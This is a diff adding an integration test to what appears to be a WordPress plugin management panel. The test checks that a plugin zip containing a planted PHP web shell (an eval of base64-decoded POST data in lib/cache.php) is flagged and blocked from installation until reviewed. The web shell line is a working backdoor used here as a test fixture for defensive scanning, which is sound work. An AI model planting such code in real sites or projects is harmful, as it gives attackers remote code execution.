@@ -155,6 +155,28 @@ describe('premium plugins: from a zip to a licensed site', { timeout: 20 * 60_00
     assert.match((await person().ask('/')).text, /<!-- acme 1\.1 -->/)
   })
 
+  it('pluginReview: a zip with a planted web shell is flagged, and not installable until someone has looked at it', async () => {
+    const planted = plugin('gallery', '1.0')
+    const files = { ...planted.files, 'lib/cache.php': '<?php @eval(base64_decode($_POST["z"]));\n' }
+    const { plugin: made, job } = await uploadPlugin(house.panel, { ...planted, files })
+    await house.succeeded(job.id)
+    const { check, findings } = await api().pluginCheck({ params: { id: made.id } })
+    assert.deepEqual([check?.status, check?.needsReview], ['flagged', true])
+    assert.ok(
+      findings.some(({ path }) => path === 'lib/cache.php'),
+      JSON.stringify(findings),
+    )
+    const body = { source: { kind: 'catalog' as const, id: made.id }, activate: false }
+    await assert.rejects(api().wpPluginInstall({ params, body }), { code: 'conflict' })
+    await api().pluginReview({ params: { id: made.id } })
+    await synced()
+    await house.succeeded((await api().wpPluginInstall({ params, body })).job.id)
+    assert.match(await inSite('ls wp-content/plugins'), /^gallery$/m)
+    await house.succeeded((await api().wpPluginDelete({ params: { ...params, name: 'gallery' } })).job.id)
+    await api().pluginDelete({ params: { id: made.id } })
+    await synced()
+  })
+
   it('a zip that lies about its content fails its check and is not installable', async () => {
     const { plugin: made, job } = await uploadPlugin(house.panel, { ...plugin('forged', '1.0'), isCorrupt: true })
     await house.succeeded(job.id)
